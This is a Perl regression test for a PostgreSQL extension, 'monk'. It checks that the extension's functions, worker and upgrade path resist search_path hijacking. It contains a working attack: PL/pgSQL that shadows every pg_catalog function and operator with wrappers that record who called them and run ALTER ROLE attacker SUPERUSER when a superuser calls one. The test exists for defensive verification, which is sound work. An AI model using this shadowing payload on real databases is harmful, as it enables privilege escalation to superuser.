# Code that runs with rights other than its caller's never resolves a name by
# a search_path a role controls.  A role holding only the grants the README
# documents -- EXECUTE on monk's functions, ownership of a captured table and
# of the exported database -- shadows every function and every operator of
# pg_catalog with one that records who ran it (and makes the role superuser
# when a superuser runs it), on its session's search_path and on the
# database's (ALTER DATABASE ... SET search_path), then the worker (plain,
# late and prepared commits, a dead letter), monk_batch_export (with a dead
# letter), monk_verify_export, monk_capture, monk_retry_dead_letters and
# ALTER EXTENSION monk UPDATE (from 0.3, with the shadows in schema public too,
# which the database's owner owns) run: none of them ever runs a shadow with
# another role's rights.
use strict;
use warnings;
use PostgreSQL::Test::Cluster;
use PostgreSQL::Test::Utils;
use Test::More;
use MonkApi;
use MonkTest;

my $api = MonkApi->new(api_key => 'test_key', customers => [ map { "cus_$_" } 0 .. 9 ]);
my $node = monk_node(api => $api, databases => ['app'], version => '0.3',
	conf => { 'monk.batch_size' => 5, 'monk.flush_interval' => '10ms', 'max_prepared_transactions' => 2 });

# Statements of the test itself (as the superuser) in app: under pg_catalog's
# names, so that only monk's own code can meet the shadows.
sub app { return $node->safe_psql('app', "SET search_path = pg_catalog; $_[0]") }

# The attacker's statements: its own session, its own search_path.
sub attacker
{
	my ($sql) = @_;
	return $node->safe_psql('app', "SET ROLE attacker; SET search_path = evil, pg_catalog, public; $sql");
}

app(q{
CREATE ROLE attacker LOGIN;
ALTER DATABASE app OWNER TO attacker;
GRANT EXECUTE ON FUNCTION public.monk_send(text, text, jsonb, timestamptz, text, uuid), public.monk_send(jsonb),
  public.monk_batch_export(regclass, integer, bigint, text), public.monk_verify_export(regclass, timestamptz),
  public.monk_list_events(text, text, timestamptz, timestamptz, text), public.monk_capture() TO attacker;
});

# The shadows: every plain function and every operator of pg_catalog whose
# types PL/pgSQL can take, each calling evil.trip() and then the original.
attacker(q{
CREATE SCHEMA evil;
GRANT USAGE ON SCHEMA evil TO PUBLIC;
CREATE TABLE evil.tripped (what text, by_role name);
GRANT INSERT ON evil.tripped TO PUBLIC;
CREATE FUNCTION evil.trip(what text) RETURNS void LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN
    IF current_user <> 'attacker' THEN
        INSERT INTO evil.tripped VALUES (what, current_user);
        IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
            ALTER ROLE attacker SUPERUSER;
        END IF;
    END IF;
END $$;
GRANT EXECUTE ON FUNCTION evil.trip(text) TO PUBLIC;
DO $$
DECLARE
    f record;
    n int := 0;
    nsp text;
BEGIN
  FOREACH nsp IN ARRAY ARRAY['evil', 'public'] LOOP
    FOR f IN
        SELECT p.oid, p.proname,
               (SELECT string_agg(format('a%s %s', i, format_type(t, NULL)), ', ' ORDER BY i)
                  FROM unnest(p.proargtypes::oid[]) WITH ORDINALITY a(t, i)) AS params,
               (SELECT string_agg(format('a%s', i), ', ' ORDER BY i)
                  FROM unnest(p.proargtypes::oid[]) WITH ORDINALITY a(t, i)) AS args,
               format_type(p.prorettype, NULL) AS ret
          FROM pg_proc p
         WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f' AND NOT p.proretset
           AND p.provariadic = 0
           AND NOT EXISTS (SELECT FROM pg_type t WHERE t.oid = ANY (p.proargtypes::oid[] || p.prorettype)
                                                   AND t.typtype = 'p' AND t.oid <> 'void'::regtype)
    LOOP
        BEGIN
            EXECUTE format('CREATE FUNCTION %I.%I(%s) RETURNS %s LANGUAGE plpgsql SET search_path = pg_catalog'
                           ' AS $f$BEGIN PERFORM evil.trip(%L); %s pg_catalog.%I(%s); END$f$',
                           nsp, f.proname, coalesce(f.params, ''), f.ret, f.proname || '()',
                           CASE f.ret WHEN 'void' THEN 'PERFORM' ELSE 'RETURN' END, f.proname,
                           coalesce(f.args, ''));
            n := n + 1;
        EXCEPTION WHEN OTHERS THEN
            NULL;
        END;
    END LOOP;
    RAISE NOTICE 'functions shadowed: %', n;
    n := 0;
    FOR f IN
        SELECT o.oid, o.oprname, o.oprleft, o.oprright, o.oprcode::oid AS code, c.proname,
               format_type(o.oprleft, NULL) AS l, format_type(o.oprright, NULL) AS r,
               format_type(o.oprresult, NULL) AS ret
          FROM pg_operator o JOIN pg_proc c ON c.oid = o.oprcode
         WHERE o.oprnamespace = 'pg_catalog'::regnamespace
           AND NOT EXISTS (SELECT FROM pg_type t WHERE t.oid IN (o.oprleft, o.oprright, o.oprresult)
                                                   AND t.typtype = 'p')
    LOOP
        BEGIN
            IF f.oprleft = 0 THEN
                EXECUTE format('CREATE FUNCTION %I.op_%s(b %s) RETURNS %s LANGUAGE plpgsql SET search_path = pg_catalog'
                               ' AS $f$BEGIN PERFORM evil.trip(%L); RETURN pg_catalog.%I(b); END$f$',
                               nsp, f.oid, f.r, f.ret, f.oprname, f.proname);
                EXECUTE format('CREATE OPERATOR %I.%s (RIGHTARG = %s, FUNCTION = %I.op_%s)', nsp, f.oprname, f.r, nsp, f.oid);
            ELSE
                EXECUTE format('CREATE FUNCTION %I.op_%s(a %s, b %s) RETURNS %s LANGUAGE plpgsql SET search_path = pg_catalog'
                               ' AS $f$BEGIN PERFORM evil.trip(%L); RETURN pg_catalog.%I(a, b); END$f$',
                               nsp, f.oid, f.l, f.r, f.ret, f.oprname, f.proname);
                EXECUTE format('CREATE OPERATOR %I.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = %I.op_%s)',
                               nsp, f.oprname, f.l, f.r, nsp, f.oid);
            END IF;
            n := n + 1;
        EXCEPTION WHEN OTHERS THEN
            NULL;
        END;
    END LOOP;
    RAISE NOTICE 'operators shadowed: %', n;
  END LOOP;
END $$;
});
# and a polymorphic function made concrete, which an exact match prefers to pg_catalog's
attacker(q{
CREATE FUNCTION public.unnest(a bigint[]) RETURNS SETOF bigint LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN PERFORM evil.trip('unnest(bigint[])'); RETURN QUERY SELECT pg_catalog.unnest(a); END $$;
});
my $shadows = app(q{SELECT count(*) FROM pg_proc WHERE pronamespace = 'public'::regnamespace});
cmp_ok($shadows, '>', 2000, "the attacker shadows pg_catalog's functions and operators ($shadows functions)");
for my $name (qw(now hashtext pg_try_advisory_xact_lock pg_notify))
{
	is(app(qq{SELECT count(*) > 0 FROM pg_proc WHERE pronamespace = 'evil'::regnamespace AND proname = '$name'}), 't',
		"among them $name()");
}
is(app(q{SELECT count(*) > 0 FROM pg_operator WHERE oprnamespace = 'evil'::regnamespace AND oprname = '='
           AND oprleft = 'int8'::regtype AND oprright = 'int8'::regtype}), 't', 'and = (bigint, bigint)');

# the shadows work: the superuser running one under the attacker's search_path trips it
my ($rc, $out, $err) = $node->psql('app', q{SET search_path = evil, pg_catalog; SELECT now() IS NOT NULL; RESET ROLE});
is(app(q{SELECT count(*) > 0 FROM evil.tripped}), 't', "a superuser's statement under the shadowing search_path trips them");
is(app(q{SELECT rolsuper FROM pg_roles WHERE rolname = 'attacker'}), 't', 'and the attacker becomes superuser that way');
app(q{ALTER ROLE attacker NOSUPERUSER; TRUNCATE evil.tripped});

# the database's search_path, which the worker would inherit; a restart, so that the worker starts with it
app(q{ALTER DATABASE app SET search_path = evil, pg_catalog, public});

# the update from 0.3 by a superuser whose session has the database's search_path
$node->safe_psql('app', 'ALTER EXTENSION monk UPDATE');
is(app(q{SELECT extversion FROM pg_extension WHERE extname = 'monk'}), '0.4', 'the extension is updated from 0.3');
$node->restart;
ok(wait_until('the worker', 30, sub { app(q{SELECT worker_state FROM monk.status}) =~ /idle|sending/ }), 'the worker runs');

# the worker: plain events, a late commit, a prepared one, and a dead letter
my @committed;
attacker(q{SELECT monk_send('call', 'cus_1', idempotency_key => 'plain_' || i) FROM generate_series(1, 12) i});
push @committed, map { "plain_$_" } 1 .. 12;
my $late = $node->background_psql('app');
$late->query_safe(q{SET ROLE attacker; BEGIN; SELECT pg_catalog.pg_current_xact_id()});
app(q{BEGIN; SELECT public.monk_send('call', 'cus_1', idempotency_key => 'prepared_1'); PREPARE TRANSACTION 'p1'});
attacker(q{SELECT monk_send('call', 'cus_2', idempotency_key => 'after_1')});
push @committed, 'after_1';
ok(wait_until('after_1 at the API', 60, sub { grep { $_ eq 'after_1' } @{ $api->keys } }), 'a later transaction is sent first');
$late->query_safe(q{SELECT monk_send('call', 'cus_1', idempotency_key => 'late_1'); COMMIT});
$late->quit;
app(q{COMMIT PREPARED 'p1'});
attacker(q{SELECT monk_send('call', 'cus_unknown', idempotency_key => 'refused_1')});
push @committed, 'late_1', 'prepared_1';
ok(wait_until('the outbox to drain', 60, sub { app(q{SELECT count(*) FROM monk.outbox}) eq '0' }), 'the worker drains the outbox');
is(app(q{SELECT idempotency_key FROM monk.dead_letter WHERE source = 'outbox'}), 'refused_1', 'the refused event is dead-lettered');
api_holds_exactly($api, \@committed, 'the API holds exactly the committed events');

# the dead letter queued again by a superuser, whose session has the database's search_path
my $retried = $node->safe_psql('app', q{SELECT public.monk_retry_dead_letters()});
is($retried, '1', 'monk_retry_dead_letters queues it again');

# monk_batch_export and monk_verify_export by the attacker, under its shadowing search_path
attacker(q{
CREATE TABLE evil.src (id bigint PRIMARY KEY, external_customer_id text, event_name text);
INSERT INTO evil.src VALUES (1, 'cus_3', 'exported'), (2, 'cus_3', 'exported'), (3, '', 'exported');
});
is(attacker(q{SELECT events_sent || '/' || events_failed FROM monk_batch_export('evil.src')}), '2/1',
	'the attacker exports its table (one row dead-lettered)');
my $kp = key_prefix($node, 'app');
push @committed, "${kp}1", "${kp}2";
is(attacker(q{SELECT count(*) FROM monk_verify_export('evil.src')}), '1', 'and verifies it (the refused row is missing)');

# a captured table owned by the attacker, written by the superuser under the database's search_path
attacker(q{
CREATE TABLE public.captured (id bigint PRIMARY KEY, customer text, tokens int);
CREATE TRIGGER capture AFTER INSERT OR UPDATE ON public.captured
    FOR EACH ROW EXECUTE FUNCTION monk_capture('captured', 'external_customer_id=customer', 'properties=tokens');
});
$node->safe_psql('app', q{INSERT INTO public.captured VALUES (1, 'cus_4', 5)});
ok(wait_until('the outbox to drain', 60, sub { app(q{SELECT count(*) FROM monk.outbox}) eq '0' }), 'the worker drains the outbox again');
is(scalar(grep { /captured/ } @{ $api->keys }), 1, 'the captured row arrived');

# the views monk created or replaced, read by a superuser: monk.sent calls unnest(bigint[])
app(q{INSERT INTO monk.sent_batch (segment, max_txid, txids, ids, http_status, attempts) VALUES (0, 1, '{1}', '{1}', 202, 1)});
$node->safe_psql('app', q{SELECT count(*) FROM monk.sent; SELECT count(*) FROM monk.outbox; SELECT count(*) FROM monk.status});
# and a database created by the attacker, its shadows made before CREATE EXTENSION
$node->safe_psql('postgres', 'CREATE DATABASE app2 OWNER attacker');
$node->safe_psql('app2', q{SET ROLE attacker;
CREATE SCHEMA evil; GRANT USAGE ON SCHEMA evil TO PUBLIC;
CREATE TABLE evil.tripped (what text, by_role name); GRANT INSERT ON evil.tripped TO PUBLIC;
CREATE FUNCTION public.unnest(a bigint[]) RETURNS SETOF bigint LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN IF current_user <> 'attacker' THEN INSERT INTO evil.tripped VALUES ('unnest(bigint[])', current_user); END IF;
      RETURN QUERY SELECT pg_catalog.unnest(a); END $$;
});
$node->safe_psql('app2', q{CREATE EXTENSION monk;
INSERT INTO monk.sent_batch (segment, max_txid, txids, ids, http_status, attempts) VALUES (0, 1, '{1}', '{1}', 202, 1);
SELECT count(*) FROM monk.sent});
is($node->safe_psql('app2', q{SELECT count(*) FROM evil.tripped}), '0',
	"CREATE EXTENSION binds pg_catalog's functions in its views, not a database owner's in public");

is(app(q{SELECT coalesce(string_agg(DISTINCT what || ' as ' || by_role, ', '), 'nothing') FROM evil.tripped}), 'nothing',
	'no shadow ever ran with rights other than the attacker\'s');
is(app(q{SELECT rolsuper FROM pg_roles WHERE rolname = 'attacker'}), 'f', 'the attacker is not superuser');

$node->stop;
$api->stop;
done_testing();
